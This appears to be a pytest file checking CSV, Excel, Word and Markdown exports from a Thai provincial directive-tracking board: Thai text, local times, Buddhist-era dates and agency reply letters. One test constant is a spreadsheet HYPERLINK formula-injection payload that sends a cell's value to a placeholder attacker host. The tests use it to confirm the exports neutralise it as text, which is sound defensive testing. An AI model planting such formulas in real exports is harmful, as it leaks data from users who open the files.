"""Exports read back the way officers open them (csv, openpyxl, python-docx) and checked cell
by cell against the board: Thai intact, local times, formula-looking text kept as text."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date, datetime, timedelta
from pathlib import Path

import docx
import openpyxl
import pytest

from storage.i18n import say
from storage.progress import agency_progress
from storage.sync.store import BoardStore
from tests.meeting.conftest import LONG_NAME, SECOND
from tui.cli import board_commands, main

TODAY = date(2022, 10, 1)
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"คลิก")'
NOTE = 'ติดปัญหา, รองบ "ไตรมาส ๒" | ส่งแล้ว\nบรรทัดที่สอง'


def local(iso: str) -> datetime:
    return datetime.fromisoformat(iso.replace("Z", "+00:00")).astimezone().replace(tzinfo=None, microsecond=0)


@pytest.fixture
def worked(two_letters: Path, monkeypatch: pytest.MonkeyPatch, bangkok) -> dict[str, str]:
    """Two letters after a month's work, on 1 October 2022; local time is Bangkok (UTC+7)."""
    monkeypatch.setattr(board_commands, "today", lambda: TODAY)
    store = BoardStore.open(two_letters)
    ids = {}
    snap = store.snapshot()
    for card in snap.cards.values():
        item, agency = snap.items[card.item_id], snap.agencies[card.agency_id]
        ids[(snap.directives[item.directive_id].number[-4:], item.seq, agency.short or agency.name)] = card.id
    pc = ids[("3362", 1, "พช.ระยอง")]
    store.move(pc, "doing", note="ประชุมคณะทำงานแล้ว ๒ ครั้ง")
    store.move(pc, "blocked", note=NOTE)
    store.add_note(ids[("1234", 1, "พช.ระยอง")], FORMULA)
    store.move(ids[("3362", 2, "สนจ.ระยอง")], "done")
    store.close()
    return {"pc": pc, "pc2": ids[("1234", 1, "พช.ระยอง")], "long": ids[("1234", 2, LONG_NAME)]}


def export(board: Path, tmp_path: Path, fmt: str, *extra: str) -> Path:
    out = tmp_path / f"out.{fmt}"
    assert main(["--board", str(board), "export", "--format", fmt, "--out", str(out), *extra]) == 0
    return out


def expected(snap, card) -> dict[str, object]:
    """What a report must say about one card, straight from the board."""
    item = snap.items[card.item_id]
    letter = snap.directives[item.directive_id]
    agency = snap.agencies[card.agency_id]
    notes = snap.notes_of(card.id)
    events = [*snap.history_of(card.id), *notes]
    last = max(events, key=lambda e: e.at) if events else None
    return {"letter": letter.number, "letter_date": letter.date, "seq": item.seq, "text": item.text,
            "agency": agency.name, "short": agency.short, "status": say("th", f"status.{card.status}"),
            "due": item.due, "notes": len(notes), "note": notes[-1].text if notes else "",
            "note_by": notes[-1].author if notes else "", "note_at": local(notes[-1].at) if notes else None,
            "changed_at": local(last.at) if last else None, "changed_by": last.author if last else ""}


def test_csv_cell_by_cell(two_letters: Path, tmp_path: Path, worked: dict[str, str]) -> None:
    raw = export(two_letters, tmp_path, "csv").read_bytes()
    assert raw.startswith("\ufeff".encode())
    header, *body = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    snap = BoardStore.open(two_letters, read_only=True).snapshot()
    assert len(body) == len(snap.cards) == 11
    by_prefix = {c.id[:8]: c for c in snap.cards.values()}
    for values in body:
        row, want = dict(zip(header, values)), expected(snap, by_prefix[values[0]])
        assert row["เลขที่หนังสือ"] == want["letter"] and row["ลงวันที่"] == want["letter_date"]
        assert row["ข้อ"] == str(want["seq"]) and row["หน่วยงาน"] == want["agency"] and row["สถานะ"] == want["status"]
        assert row["ชื่อย่อ"] == want["short"] and row["กำหนดเสร็จ"] == (want["due"] or "")
        text = row["ประเด็น"]
        assert (text[1:] if text.startswith("'=") else text) == want["text"]  # the item that looks like a formula
        assert row["จำนวนบันทึก"] == str(want["notes"]) and row["บันทึกโดย"] == want["note_by"]
        note = row["บันทึกล่าสุด"]
        assert (note[1:] if note.startswith("'") else note) == want["note"]
        when = want["changed_at"]
        assert row["แก้ไขล่าสุด"] == (f"{when:%Y-%m-%d %H:%M}" if when else "") and row["แก้ไขโดย"] == want["changed_by"]
    pc = dict(zip(header, next(v for v in body if v[0] == worked["pc"][:8])))
    assert pc["บันทึกล่าสุด"] == NOTE and pc["ลงวันที่ (พ.ศ.)"] == "17 ก.ค. 2565"
    assert pc["กำหนดเสร็จ (พ.ศ.)"] == "30 ก.ย. 2565" and pc["เลยกำหนด"] == "เลยกำหนด" and pc["เลยมา (วัน)"] == "1"


def test_times_are_local_not_utc(two_letters: Path, tmp_path: Path, worked: dict[str, str]) -> None:
    snap = BoardStore.open(two_letters, read_only=True).snapshot()
    note = snap.notes_of(worked["pc"])[-1]
    utc = datetime.fromisoformat(note.at.replace("Z", "+00:00")).replace(tzinfo=None)
    header, *body = list(csv.reader(io.StringIO(export(two_letters, tmp_path, "csv").read_text("utf-8-sig"))))
    row = dict(zip(header, next(v for v in body if v[0] == worked["pc"][:8])))
    assert row["เวลาบันทึก"] == f"{utc + timedelta(hours=7):%Y-%m-%d %H:%M}"  # Bangkok, not UTC


def test_a_formula_looking_note_reads_back_as_text(two_letters: Path, tmp_path: Path, worked: dict[str, str]) -> None:
    header, *body = list(csv.reader(io.StringIO(export(two_letters, tmp_path, "csv").read_text("utf-8-sig"))))
    row = dict(zip(header, next(v for v in body if v[0] == worked["pc2"][:8])))
    assert row["บันทึกล่าสุด"] == "'" + FORMULA  # the apostrophe: Excel and LibreOffice show text
    path = export(two_letters, tmp_path, "xlsx")
    book = openpyxl.load_workbook(path)
    sheet = book["พช.ระยอง"]
    heads = [c.value for c in sheet[1]]
    cells = {r[0].value: r for r in sheet.iter_rows(min_row=2)}
    note = cells[worked["pc2"][:8]][heads.index("บันทึกล่าสุด")]
    assert note.value == FORMULA and note.data_type == "s" and note.quotePrefix
    text = next(book[n] for n in book.sheetnames[1:] if book[n]["G2"].value == LONG_NAME)  # item text '=…'
    assert len(text.title) <= 31 and text.title == LONG_NAME[:31]
    item = [r for r in text.iter_rows(min_row=2)][0][heads.index("ประเด็น")]
    assert item.value.startswith("=HYPERLINK") and item.data_type == "s" and item.quotePrefix
    with zipfile.ZipFile(path) as z:
        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")]
    assert not any("<f>" in xml or "<f " in xml for xml in sheets), "a cell was stored as a formula"


def test_xlsx_summary_and_agency_sheets_cell_by_cell(two_letters: Path, tmp_path: Path, worked: dict[str, str]) -> None:
    book = openpyxl.load_workbook(export(two_letters, tmp_path, "xlsx"))
    snap = BoardStore.open(two_letters, read_only=True).snapshot()
    progress = agency_progress(snap, TODAY)
    assert book.sheetnames[0] == "สรุป" and len(book.sheetnames) == 1 + len(progress)
    summary = book["สรุป"]
    assert summary.freeze_panes == "A2" and summary.auto_filter.ref == f"A1:J{len(progress) + 1}"
    lines = {r[0]: r for r in summary.iter_rows(min_row=2, values_only=True)}
    for agency, p in progress:
        assert lines[agency.name][2:] == (*p.counts, p.total, p.percent / 100, p.overdue, p.due_soon)
    assert lines["ทุกหน่วยงาน"][6] == 11
    for agency, p in progress:
        sheet = next(book[n] for n in book.sheetnames[1:] if book[n]["G2"].value == agency.name)
        assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == f"A1:T{p.total + 1}"
        assert sheet.column_dimensions["F"].width == 60 and all(c.font.bold for c in sheet[1])
        heads = [c.value for c in sheet[1]]
        for values in sheet.iter_rows(min_row=2, values_only=True):
            row = dict(zip(heads, values))
            card = next(c for c in snap.cards.values() if c.id.startswith(row["รหัสการ์ด"]))
            want = expected(snap, card)
            assert row["หน่วยงาน"] == want["agency"] and row["สถานะ"] == want["status"] and row["ข้อ"] == want["seq"]
            assert row["ประเด็น"] == want["text"] and row["บันทึกล่าสุด"] == (want["note"] or None)
            assert row["ลงวันที่"] == datetime.fromisoformat(want["letter_date"])  # a real date cell
            assert row["กำหนดเสร็จ"] == (datetime.fromisoformat(want["due"]) if want["due"] else None)
            assert row["แก้ไขล่าสุด"] == want["changed_at"] and row["เวลาบันทึก"] == want["note_at"]
    pc = book["พช.ระยอง"]
    assert pc["D2"].value == "17 ก.ค. 2565" and pc["L2"].value == "30 ก.ย. 2565"  # B.E. text beside each date
    assert pc["K2"].number_format == "yyyy-mm-dd" and pc["O2"].number_format == "yyyy-mm-dd hh:mm"


def test_scopes_and_standard_output(two_letters: Path, tmp_path: Path, worked: dict[str, str], capsysbinary,
                                    monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    assert main(["--board", str(two_letters), "export", "--format", "csv", "--out", "-", "--letter", "1234"]) == 0
    raw = capsysbinary.readouterr().out
    assert not (tmp_path / "-").exists(), "--out - made a file named '-'"
    body = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))[1:]
    assert {r[1] for r in body} == {SECOND} and len(body) == 2
    assert main(["--board", str(two_letters), "export", "--format", "csv", "--agency", "สนจ.ระยอง",
                 "--since", "0d"]) == 0
    body = list(csv.reader(io.StringIO(capsysbinary.readouterr().out.decode("utf-8-sig"))))[1:]
    assert [r[4] for r in body] == ["2"]  # only the card moved today
    assert main(["--board", str(two_letters), "export", "--format", "md", "--out", "-", "--agency", "พช"]) == 0
    text = capsysbinary.readouterr().out.decode()
    assert text.count("\n## ") == 1 and "## สำนักงานพัฒนาชุมชนจังหวัดระยอง (พช.ระยอง)" in text
    assert f"| {NOTE.splitlines()[0].replace('|', chr(92) + '|')} บรรทัดที่สอง (somchai " in text
    assert "somchai ๑ ต.ค. ๖๕" not in text  # the change was made today, not on the report's date


def test_the_agency_reply_docx(two_letters: Path, tmp_path: Path, worked: dict[str, str]) -> None:
    document = docx.Document(str(export(two_letters, tmp_path, "docx", "--agency", "พช.ระยอง")))
    snap = BoardStore.open(two_letters, read_only=True).snapshot()
    texts = [p.text for p in document.paragraphs]
    assert "เรื่อง  รายงานผลการดำเนินงานตามข้อสั่งการ" in texts and "เรียน  ผู้ว่าราชการจังหวัดระยอง" in texts
    refs = [t for t in texts if "รย ๐๐๑๗.๒/ว ๓๓๖๒" in t or "รย ๐๐๒๓.๔/ว ๑๒๓๔" in t]
    assert refs[0] == "อ้างถึง  หนังสือจังหวัดระยอง ที่ รย ๐๐๑๗.๒/ว ๓๓๖๒ ลงวันที่ ๑๗ กรกฎาคม ๒๕๖๕"
    assert refs[1].strip() == "หนังสือจังหวัดระยอง ที่ รย ๐๐๒๓.๔/ว ๑๒๓๔ ลงวันที่ ๑ สิงหาคม ๒๕๖๕"
    assert "วันที่ ๑ ตุลาคม ๒๕๖๕" in texts and "สำนักงานพัฒนาชุมชนจังหวัดระยอง ขอรายงาน" in " ".join(texts)
    (table,) = document.tables
    header, *rows = [[c.text for c in r.cells] for r in table.rows]
    assert header == ["ลำดับ", "ประเด็น", "ผลการดำเนินงาน", "ปัญหาอุปสรรค"]
    cards = sorted((c for c in snap.cards.values() if snap.agencies[c.agency_id].short == "พช.ระยอง"),
                   key=lambda c: (snap.directives[snap.items[c.item_id].directive_id].date, snap.items[c.item_id].seq))
    assert [r[0] for r in rows] == ["๑", "๒", "๓", "๔"] and len(rows) == len(cards)
    for row, card in zip(rows, cards):
        item = snap.items[card.item_id]
        assert row[1].startswith(f"ข้อ {'๐๑๒๓๔๕๖๗๘๙'[item.seq]} {item.text}")
        assert row[2].splitlines()[0] == "สถานะ: " + say("th", f"status.{card.status}")
    blocked = rows[0]
    assert "ประชุมคณะทำงานแล้ว ๒ ครั้ง" in blocked[2] and "เลยกำหนด ๑ วัน" in blocked[2]
    assert NOTE.replace("\n", " ") not in blocked[2] and "บรรทัดที่สอง" in blocked[3]  # the blocker is the problem
    assert rows[1][3] == "-" and FORMULA in rows[3][2]  # text in Word is only text
    normal = document.styles["Normal"]
    fonts = normal.element.rPr.rFonts
    assert normal.font.name == "TH Sarabun New" and fonts.get(
        "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}cs") == "TH Sarabun New"
    assert normal.font.size.pt == 16


@pytest.mark.parametrize("argv, message", [
    (("--format", "docx", "--out", "x.docx"), "the agency report is for one agency"),
    (("--format", "docx", "--out", "x.docx", "--agency", "ระยอง"), "matches"),
    (("--format", "csv", "--since", "เมื่อวาน"), "cannot read the date"),
])
def test_export_mistakes_are_one_line(two_letters: Path, tmp_path: Path, capsys, monkeypatch, argv, message) -> None:
    monkeypatch.chdir(tmp_path)
    assert main(["--board", str(two_letters), "--lang", "en", "export", *argv]) == 1
    err = capsys.readouterr().err
    assert err.startswith("board: ") and message in err and err.count("\n") == 1
    assert not (tmp_path / "x.docx").exists()


def test_the_reply_is_addressed_in_its_language_when_no_letter_names_a_province() -> None:
    from storage.formats.agency_report import addressee
    from storage.models import Directive

    rayong = Directive("d1", "รย 0017.2/ว 3362", "2022-07-17", "x", issuer="ศาลากลางจังหวัดระยอง")
    meeting = Directive("d2", "", "2024-08-28", "ประชุมหัวหน้าส่วนราชการ")
    assert addressee([meeting, rayong], "th") == "ผู้ว่าราชการจังหวัดระยอง"
    assert addressee([meeting], "th") == "ผู้ว่าราชการจังหวัด"
    assert addressee([meeting], "en") == "The Provincial Governor"  # no Thai word in an English reply
